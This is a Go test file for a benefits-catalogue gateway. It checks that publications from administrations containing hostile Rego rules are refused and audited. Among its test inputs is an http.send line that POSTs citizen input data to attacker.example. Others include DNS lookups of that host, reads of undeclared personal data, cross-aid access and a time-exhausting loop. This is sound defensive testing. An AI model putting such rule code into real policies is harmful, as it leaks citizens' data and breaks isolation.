package gateway_test

import (
	"context"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/obert-gov/obert/audit"
)

// aidPublication is a valid publication of a census aid with id, at level,
// whose rule's criteria lines are crit and whose tests are tests (both
// given without their package and imports).
func aidPublication(id, level, crit, tests string) map[string]any {
	t3 := func(s string) map[string]string { return map[string]string{"ca": s, "es": s, "en": s} }
	if crit == "" {
		crit = "criteria[\"over-70\"] := lib.age >= 70\n"
	}
	if tests == "" {
		tests = "test_old if {\n\tc := aid.criteria with input as {\"today\": \"2026-11-24\", \"facts\": {\"census\": {\"birth_date\": \"1940-01-01\"}}}\n\tc[\"over-70\"]\n}\n\n" +
			"test_young if {\n\tc := aid.criteria with input as {\"today\": \"2026-11-24\", \"facts\": {\"census\": {\"birth_date\": \"1990-01-01\"}}}\n\tc[\"over-70\"] == false\n}\n"
	}
	return map[string]any{
		"aid": map[string]any{"id": id, "level": level,
			"title": t3("Ajut de prova " + id), "summary": t3("Una prova."), "legal_reference": "Exemple",
			"apply_url": "https://example.org/", "valid_from": "2026-01-01", "valid_until": "2027-12-31", "categories": []string{"census"},
			"criteria": []map[string]any{{"name": "over-70", "category": "census", "text": t3("You are 70 or older")}}},
		"rule":  "package obert.aids." + id + "\n\nimport rego.v1\n\nimport data.obert.aids.lib\n\n" + crit,
		"tests": "package obert.aids." + id + "_test\n\nimport rego.v1\n\nimport data.obert.aids." + id + " as aid\n\n" + tests,
	}
}

// TestAdminPublicationAttacks: what an administration sends is untrusted.
// Each publication below is refused with problem details naming the cause,
// nothing changes (no aid stored or served, no catalogue version), and the
// refusal is an audit entry of that administration.
func TestAdminPublicationAttacks(t *testing.T) {
	ctx := context.Background()
	d := startDev(t)
	base := d.URL + "/admin/v1/aids"
	gencat, ajbcn := adminClient(t, d, "sandbox-gencat"), adminClient(t, d, "sandbox-ajbcn")

	// One honest publication of another administration, to be attacked.
	if s, p := call(t, gencat, http.MethodPost, base, aidPublication("ajut_gencat_prova", "generalitat", "", "")); s != http.StatusCreated {
		t.Fatalf("honest publication: %d %v", s, p)
	}
	version, err := d.Store.CatalogueVersion(ctx)
	if err != nil {
		t.Fatal(err)
	}
	exfil := `http.send({"method": "POST", "url": "https://attacker.example/", "body": input})`
	long := strings.Repeat("a", 201)
	for _, c := range []struct {
		name   string
		body   map[string]any
		status int
		says   string
	}{
		{"http.send in the rule", aidPublication("ajut_a1", "city", "criteria[\"over-70\"] := true if { "+exfil+" }\n", ""), 400, "http.send"},
		{"http.send in the tests", aidPublication("ajut_a2", "city", "", "test_x if { "+exfil+" }\n"), 400, "http.send"},
		{"net.lookup_ip_addr", aidPublication("ajut_a3", "city", "criteria[\"over-70\"] := count(net.lookup_ip_addr(\"attacker.example\")) > 0\n", ""), 400, "net.lookup_ip_addr"},
		{"opa.runtime", aidPublication("ajut_a4", "city", "criteria[\"over-70\"] := count(opa.runtime()) > 0\n", ""), 400, "opa.runtime"},
		{"an undeclared category through a variable", aidPublication("ajut_a5", "city",
			"criteria[\"over-70\"] := f.facts.tax.income_annual > 1 if { f := input }\n", ""), 400, "input"},
		{"walk over input", aidPublication("ajut_a6", "city",
			"criteria[\"over-70\"] := true if { walk(input, [p, v]); v == 1 }\n", ""), 400, "input"},
		{"object.get on input", aidPublication("ajut_a7", "city",
			"criteria[\"over-70\"] := object.get(input, [\"facts\", \"tax\", \"income_annual\"], 0) > 1\n", ""), 400, "input"},
		{"a comprehension over the facts", aidPublication("ajut_a8", "city",
			"criteria[\"over-70\"] := count([v | some v in input.facts]) > 1\n", ""), 400, "input"},
		{"bare data", aidPublication("ajut_a9", "city", "criteria[\"over-70\"] := count(data) > 1\n", ""), 400, "data"},
		{"another aid's package", aidPublication("ajut_b1", "city",
			"criteria[\"over-70\"] := data.obert.aids.ajut_gencat_prova.criteria[\"over-70\"]\n", ""), 400, "ajut_gencat_prova"},
		{"the id lib", aidPublication("lib", "city", "", ""), 400, "lib"},
		{"a package outside the aid's namespace", func() map[string]any {
			p := aidPublication("ajut_b6", "city", "", "")
			p["rule"] = strings.Replace(p["rule"].(string), "package obert.aids.ajut_b6", "package obert.guard", 1)
			return p
		}(), 400, "package"},
		{"a rule that defines the shared helpers", func() map[string]any {
			p := aidPublication("ajut_b7", "city", "", "")
			p["rule"] = strings.Replace(p["rule"].(string), "package obert.aids.ajut_b7", "package obert.aids.lib", 1)
			return p
		}(), 400, "package"},
		{"the id of another administration's aid", aidPublication("ajut_gencat_prova", "city", "", ""), 409, "taken"},
		{"a level the token may not use", aidPublication("ajut_b2", "state", "", ""), 403, "city"},
		{"a title over 200 characters", func() map[string]any {
			p := aidPublication("ajut_b4", "city", "", "")
			p["aid"].(map[string]any)["title"] = map[string]string{"ca": long, "es": "x", "en": "x"}
			return p
		}(), 400, "title"},
		{"a rule past its time limit", aidPublication("ajut_b5", "city",
			"criteria[\"over-70\"] := count([x | some x in numbers.range(1, 100000000); x % 7 == 0]) > 0\n", ""), 400, "250 ms"},
	} {
		s, p := call(t, ajbcn, http.MethodPost, base, c.body)
		if s != c.status || !strings.Contains(fmt.Sprint(p), c.says) {
			t.Errorf("%s: %d %v; want %d naming %q", c.name, s, p, c.status, c.says)
		}
	}
	// Another administration's name in the body.
	p := aidPublication("ajut_b3", "city", "", "")
	p["aid"].(map[string]any)["administration"] = map[string]string{"ca": "Govern d'Espanya", "es": "Gobierno de España", "en": "Government of Spain"}
	if s, body := call(t, ajbcn, http.MethodPost, base, p); s != http.StatusForbidden || !strings.Contains(fmt.Sprint(body), "Ajuntament de Barcelona") {
		t.Errorf("speaking for another administration: %d %v", s, body)
	}
	// Changing another's aid: as if it did not exist.
	if s, _ := change(t, ajbcn, http.MethodPut, base+"/ajut_gencat_prova", aidPublication("ajut_gencat_prova", "city", "", "")); s != http.StatusNotFound {
		t.Errorf("updating another administration's aid: %d", s)
	}

	// Nothing changed: no catalogue version, no aid of ajbcn's stored, none
	// served, and the honest one is as it was.
	if v, _ := d.Store.CatalogueVersion(ctx); v != version {
		t.Errorf("catalogue version %d after refusals, want %d", v, version)
	}
	if s, l := call(t, ajbcn, http.MethodGet, base, nil); s != http.StatusOK || len(l["aids"].([]any)) != 0 {
		t.Errorf("ajbcn's aids after refusals: %v", l)
	}
	u := consentAndFetch(t, d, d.citizenOf(t, "older-alone"))
	u.get(d.URL + "/folder/aids")
	if strings.Contains(u.page, "Ajut de prova ajut_a") || strings.Contains(u.page, "Ajut de prova ajut_b") {
		t.Error("a refused aid is served")
	}
	u.mustSee("Ajut de prova ajut_gencat_prova")

	// Each refusal is in the log, under the administration that tried.
	es, err := d.Audit.EntriesOf(ctx, "admin:ajbcn", audit.Filter{})
	if err != nil {
		t.Fatal(err)
	}
	refused := 0
	for _, e := range es {
		if e.Kind == "admin.refused" {
			refused++
		}
	}
	if refused < 17 {
		t.Errorf("%d refusals recorded, want one per refused attempt (17 at least)", refused)
	}

	// The honest aid is published in the register's name of its
	// administration, and changes to it need its current version.
	s, v := call(t, gencat, http.MethodGet, base+"/ajut_gencat_prova", nil)
	if s != http.StatusOK || !strings.Contains(fmt.Sprint(v["publication"]), "Departament de Drets Socials") {
		t.Fatalf("the published aid: %d %v", s, v)
	}
	update := aidPublication("ajut_gencat_prova", "generalitat", "", "")
	if s, _ := callIf(t, gencat, http.MethodPut, base+"/ajut_gencat_prova", "", update); s != http.StatusPreconditionRequired {
		t.Errorf("an update without If-Match: %d", s)
	}
	etag := etagOf(t, gencat, base+"/ajut_gencat_prova")
	if s, _ := callIf(t, gencat, http.MethodPut, base+"/ajut_gencat_prova", etag, update); s != http.StatusOK {
		t.Fatalf("an update against the current version: %d", s)
	}
	if s, _ := callIf(t, gencat, http.MethodPut, base+"/ajut_gencat_prova", etag, update); s != http.StatusPreconditionFailed {
		t.Errorf("a second update against the same, now stale, version: %d", s)
	}
	if s, _ := callIf(t, gencat, http.MethodDelete, base+"/ajut_gencat_prova", etag, nil); s != http.StatusPreconditionFailed {
		t.Errorf("a retirement against a stale version: %d", s)
	}
}
